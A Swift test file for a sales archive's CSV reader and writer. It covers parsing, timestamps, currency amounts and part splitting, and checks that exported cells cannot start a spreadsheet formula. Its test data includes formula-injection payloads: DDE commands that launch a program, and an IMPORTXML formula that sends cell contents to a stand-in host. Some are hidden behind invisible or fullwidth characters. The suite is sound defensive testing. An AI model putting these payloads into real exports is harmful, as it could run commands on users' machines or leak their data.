import SalesTesting
import Testing

@testable import SalesCore

@Suite("Rows of an archive as comma-separated values")
struct CSVTests {
    private func cells(_ text: String) throws -> [[String]] {
        var reader = CSVReader(Array(text.utf8))
        var records: [[String]] = []
        while let record = try reader.next() {
            records.append(record.cells.map { String(decoding: $0.bytes, as: UTF8.self) })
        }
        return records
    }

    @Test("Cells are read as RFC 4180 has them, with either end of line")
    func reading() throws {
        #expect(try cells("a,b\r\nc,\r\n") == [["a", "b"], ["c", ""]])
        #expect(try cells("a\nb") == [["a"], ["b"]])
        #expect(try cells("\"a,b\",\"c\"\"d\",\"e\r\nf\",\"\"\r\n") == [["a,b", "c\"d", "e\r\nf", ""]])
        #expect(try cells("\"\"\"\"\r\n") == [["\""]])
        #expect(try cells("") == [])
        #expect(try cells("\r\n") == [[""]])
    }

    @Test(
        "What breaks the format is named with its line",
        arguments: [
            ("a\r\nb\"c\r\n", 2), ("a\r\n\"b\r\n", 2), ("\"a\"b\r\n", 1), ("a\r\n\"b\nc\"d", 3), ("a\rb\r\n", 1),
        ]
    )
    func faults(_ text: String, _ line: Int) throws {
        let fault = #expect(throws: CSVFault.self) { try cells(text) }
        #expect(fault?.line == line)
    }

    @Test("A moment is written in UTC with milliseconds, and read back to the same, whichever it is")
    func moments() throws {
        let milliseconds: [Int64] = [
            0, 1, -1, 999, 1_764_500_000_123, -62_135_596_800_000, 253_402_300_799_999, 253_402_300_800_000,
            -62_198_755_200_000, .max, .min,
        ]
        for value in milliseconds {
            var writer = CSVWriter()
            writer.moment(Timestamp(milliseconds: value))
            #expect(ArchiveTime.moment(writer.bytes[...]) == Timestamp(milliseconds: value), "\(value)")
        }
        var writer = CSVWriter()
        writer.moment(Timestamp(milliseconds: 1_764_500_000_007))
        #expect(String(decoding: writer.bytes, as: UTF8.self) == "2025-11-30T10:53:20.007Z")
    }

    @Test(
        "What is no such moment is none",
        arguments: [
            "", "2025-11-30", "2025-11-30T10:53:20Z", "2025-11-30 10:53:20.007Z", "2025-11-30T10:53:20.007",
            "2025-02-29T00:00:00.000Z", "2025-13-01T00:00:00.000Z", "2025-11-30T24:00:00.000Z",
            "25-11-30T10:53:20.007Z",
            "+2025-11-30T10:53:20.007Z", "2025-11-30T10:60:20.007Z", "2025-11-30T10:53:60.007Z",
            "2025-00-10T10:53:20.007Z",
            "-00-00T00:00:00.000Z", "99999999999999999999-01-01T00:00:00.000Z",
        ]
    )
    func noMoments(_ text: String) {
        #expect(ArchiveTime.moment(Array(text.utf8)[...]) == nil)
    }

    @Test("An amount has all digits of its currency, and is read back to the same")
    func amounts() throws {
        for (money, text) in [
            (Sample.money(12_999, "GBP"), "129.99,GBP"), (Sample.money(5, "GBP"), "0.05,GBP"),
            (Sample.money(-5, "GBP"), "-0.05,GBP"), (Sample.money(10_000, "JPY"), "10000,JPY"),
            (Sample.money(0, "KWD"), "0.000,KWD"), (Sample.money(.max, "KWD"), "9223372036854775.807,KWD"),
            (Sample.money(.min + 1, "GBP"), "-92233720368547758.07,GBP"),
        ] {
            var writer = CSVWriter()
            writer.money(money)
            #expect(String(decoding: writer.bytes, as: UTF8.self) == text)
            var reader = CSVReader(writer.bytes)
            var record = try #require(try reader.next())
            #expect(try record.moneyOrNil() == money)
        }
    }

    @Test("No value and the empty text stay two things")
    func absence() throws {
        var writer = CSVWriter()
        writer.text(nil)
        writer.text("")
        writer.money(nil)
        writer.moment(nil)
        writer.number(nil)
        writer.endRecord()
        #expect(String(decoding: writer.bytes, as: UTF8.self) == ",\"\",,,,\r\n")
        var reader = CSVReader(writer.bytes)
        var record = try #require(try reader.next())
        #expect(record.textOrNil() == nil)
        #expect(record.textOrNil() == "")
        #expect(try record.moneyOrNil() == nil)
        #expect(try record.momentOrNil() == nil)
        #expect(try record.numberOrNil() == nil)
    }

    @Test("No text begins a formula, and each is read back byte for byte", arguments: formulas)
    func formula(_ text: String) throws {
        var writer = CSVWriter()
        writer.text(text)
        writer.endRecord()
        let line = String(decoding: writer.bytes, as: UTF8.self)
        #expect(line.first == "'" || line.hasPrefix("\"'"))
        var reader = CSVReader(writer.bytes)
        var record = try #require(try reader.next())
        #expect(record.textOrNil().map { Array($0.utf8) } == Array(text.utf8))
    }

    @Test("No cell of products and shops begins a formula, and all are read back byte for byte")
    func formulaRows() throws {
        #expect(Self.formulas.count >= 100)
        let products = Self.formulas.enumerated().map { index, text in
            ArchivedProduct(
                Product(
                    id: ProductID(rawValue: Int64(index + 1)),
                    websiteID: WebsiteID(rawValue: 1),
                    url: Sample.url("https://shop.example/\(index)"),
                    selection: Selection(text: text),
                    name: text,
                    nextCheckAt: ManualClock.start,
                    createdAt: ManualClock.start
                )
            )
        }
        let websites = Self.formulas.enumerated().map { index, text in
            Website(id: WebsiteID(rawValue: Int64(index + 1)), host: "shop\(index).example", name: text)
        }
        try expectHarmless(products, texts: [2, 3, 4]) { [Array($0.name.utf8), Array($0.selection.text.utf8)] }
        try expectHarmless(websites, texts: [1, 2]) { [Array($0.name.utf8)] }
    }

    /// Demands that none of some columns begins a formula in any row, and that rows are read back with the same bytes.
    private func expectHarmless<Row: ArchivedRow>(
        _ rows: [Row],
        texts columns: [Int],
        _ bytes: (Row) -> [[UInt8]]
    ) throws {
        var encoder = PartEncoder(Row.table, plan: ArchivePlan())
        for row in rows { _ = encoder.add(row) }
        let part = encoder.finish(isFirst: true)
        let text = try #require(part).text
        var reader = CSVReader(text)
        _ = try reader.next()
        var count = 0
        while let record = try reader.next() {
            count += 1
            for column in columns {
                let cell = String(decoding: record.cells[column].bytes, as: UTF8.self).unicodeScalars
                let seen = cell.first { !Self.isBlank($0) }
                #expect(seen.map(Self.openers.contains) != true, "line \(record.line)")
                #expect(cell.first.map { "\t\r\n".unicodeScalars.contains($0) } != true, "line \(record.line)")
            }
        }
        #expect(count == rows.count)
        let found = try PartDecoder.rows(of: text, as: Row.self).map(bytes)
        let expected = rows.map(bytes)
        #expect(found == expected)
    }

    private static let openers = Array("=+-@|＝＋－＠﹦﹢﹣﹫−".unicodeScalars)

    /// What programs skip before they look whether a cell is a formula.
    private static func isBlank(_ scalar: Unicode.Scalar) -> Bool {
        scalar.properties.isWhitespace || [.control, .format].contains(scalar.properties.generalCategory)
    }

    /// What a spreadsheet would run, behind what it does not see.
    static let formulas: [String] = {
        let plain = [
            "=1+1", "+1", "-1", "@SUM(A1)", "|calc", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"y\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")",
        ]
        let beginnings = ["", "\t", "\r", "\n", " ", "\u{A0}", "\u{3000}", "\u{FEFF}", "\u{200B} "]
        let hidden = plain.flatMap { text in beginnings.map { $0 + text } }
        return hidden + [
            "'quoted", "\t'quoted", "'=1", "''", "＝1", "＋1", "－1", "＠x", "−1", "﹦1", "﹢1", "﹣1", "﹫x", " ＝1", "\u{0}=1",
            "\t", "\r\n=1,2", "\u{1}\u{2}+1", "\u{7F}@x", "\u{85}=1", "\u{2028}=1", "\u{AD}=1", "\u{202E}=1",
        ]
    }()

    @Test(
        "Other texts stand as they are",
        arguments: ["Kettle", "1.7 l", "Straße", "日本", "a=b", "3-pack", "\u{301}accent", "👩‍👩‍👧", "a'b", " Kettle"]
    )
    func plainTexts(_ text: String) throws {
        var writer = CSVWriter()
        writer.text(text)
        #expect(writer.bytes == Array(text.utf8))
    }

    @Test("Rows of prices are read back the same, whatever they hold")
    func prices() throws {
        var random = SeededRandom(seed: 6)
        var encoder = PartEncoder(.prices, plan: ArchivePlan())
        let codes = ["GBP", "JPY", "KWD", "EUR"]
        let rows = (0..<2_000).map { number in
            PricePoint(
                productID: ProductID(rawValue: Int64(number / 3 + 1)),
                observedAt: Timestamp(
                    milliseconds: Int64.random(in: -9_000_000_000_000...9_000_000_000_000, using: &random)
                ),
                price: Sample.money(Int64.random(in: 0...(.max), using: &random), codes[number % 4]),
                listPrice: number % 2 == 0 ? nil : Sample.money(Int64(number), codes[number % 3]),
                availability: Availability.allCases[number % Availability.allCases.count],
                isCarriedForward: number % 5 == 0
            )
        }
        let filled = rows.compactMap { encoder.add($0) }
        #expect(filled.isEmpty)
        let last = encoder.finish(isFirst: true)
        let part = try #require(last)
        #expect(part.rows == rows.count)
        #expect(part.numbers == 1...667)
        #expect(try PartDecoder.rows(of: part.text) == rows)
        #expect(try PartDecoder.count(part.text, of: .prices) == rows.count)
    }

    @Test("A part ends with the row that fills it, and only the first may be without rows")
    func parts() throws {
        var encoder = PartEncoder(.websites, plan: ArchivePlan(partBytes: 60))
        var parts: [PartEncoder.Part] = []
        let rows = (1...10).map { Website(id: WebsiteID(rawValue: Int64($0)), host: "shop\($0).example", name: "Shop") }
        for row in rows { if let part = encoder.add(row) { parts.append(part) } }
        if let part = encoder.finish(isFirst: false) { parts.append(part) }
        #expect(parts.count > 2)
        #expect(try parts.flatMap { try PartDecoder.rows(of: $0.text, as: Website.self) } == rows)
        #expect(parts.dropLast().allSatisfy { $0.text.count >= 60 })
        let later = encoder.finish(isFirst: false)
        #expect(later == nil)
        let first = encoder.finish(isFirst: true)
        let empty = try #require(first)
        #expect(String(decoding: empty.text, as: UTF8.self) == "id,host,name\r\n")
    }

    @Test("A file of other columns, or a row of another length, is none of ours")
    func otherFiles() throws {
        for text in [
            "", "id,host\r\n", "id,host,title\r\n1,a,b\r\n", "id,host,name\r\n1,a\r\n", "id,host,name\r\nx,a,b\r\n",
        ] {
            #expect(throws: CSVFault.self) { try PartDecoder.rows(of: Array(text.utf8), as: Website.self) }
        }
    }
}
